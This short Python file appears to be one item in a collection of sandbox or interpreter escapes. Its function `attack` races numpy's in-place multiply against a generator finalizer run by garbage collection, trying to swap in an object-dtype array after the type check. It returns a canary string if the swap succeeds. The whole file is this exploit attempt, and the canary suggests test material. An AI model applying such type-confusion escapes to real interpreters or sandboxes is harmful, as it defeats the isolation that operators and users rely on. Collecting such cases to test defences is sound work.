"""Class: fast ways. Source: own find. Escape: a generator's `finally` runs while garbage is collected,
between the look at an array and the work in it, and binds an array of objects instead."""

import numpy as np


class Left:
    def __rmul__(self, other):
        return self

    def __mul__(self, other):
        return 0


def attack(model, tokenizer, address):
    real = np.ones(3) * [Left() for _ in range(3)]
    x = np.ones(3)

    def late():
        nonlocal x
        try:
            yield
        finally:
            x = real

    def litter():
        g = late()
        next(g)
        loop = [g]
        loop.append(loop)

    for i in range(5000):
        x = np.ones(3)
        padding = [[] for _ in range(i % 13)]  # else the same line might always be the one
        litter()
        try:
            x *= 1
        except Exception:
            pass
    if any(type(each) is not Left for each in real.tolist()):
        return "canary-" + "5d1f"
